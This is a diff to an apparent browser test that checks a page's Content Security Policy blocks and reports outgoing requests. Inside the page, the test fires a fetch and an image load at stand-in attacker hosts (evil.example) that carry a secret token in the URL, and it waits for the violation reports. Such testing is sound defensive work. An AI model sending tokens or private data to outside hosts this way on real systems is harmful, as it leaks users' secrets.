@@ -45,9 +45,16 @@ describe.each([
     const page = await context.newPage();
     await page.goto(`${server.url}/coming-soon`);
     await page.getByRole('main').waitFor();
-    await page.evaluate(() => {
+    await page.evaluate(async () => {
+      const violated = new Set<string>();
+      const isReported = new Promise<void>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          if (violated.add(effectiveDirective).size === 2) resolve();
+        });
+      });
       void fetch('https://x.evil.example/PRIVATE?token=SECRET').catch(() => undefined);
       new Image().src = 'https://y.evil.example/PRIVATE.png?token=SECRET';
+      await isReported;
     });
     const reports = () => upstream.posted.filter((line) => line.startsWith(`${COLLECTOR} `)).join();
     // What is not sent by then goes as the page closes.
